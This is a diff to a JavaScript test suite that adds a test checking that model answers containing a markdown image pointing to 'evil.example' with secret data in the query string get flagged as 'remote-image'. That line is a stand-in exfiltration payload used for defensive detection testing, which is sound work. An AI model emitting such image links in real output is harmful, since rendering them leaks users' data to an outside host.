@@ -107,6 +107,15 @@ describe('an answer that comes whole', () => {
     expect(denied.error).toMatchObject({ code: 'POLICY_DENIED', message: 'not today' });
   });
 
+  test.each(['generation', 'text', 'outputText'])(
+    'is flagged where its "%s" shows an image that carries data',
+    async (name) => {
+      const answer = { results: [{ [name]: '![x](https://evil.example/?d=secret)' }] };
+      const { text, answer: known } = await whole(answer);
+      expect([text, known.flags]).toEqual([JSON.stringify(answer), ['remote-image']]);
+    },
+  );
+
   test('that is no JSON, or has a secret for a name, is not passed on', async () => {
     for (const body of ['<html>', `{"${key}":1}`, '{"a":1,"a":2}']) {
       const { error, text } = await answered(
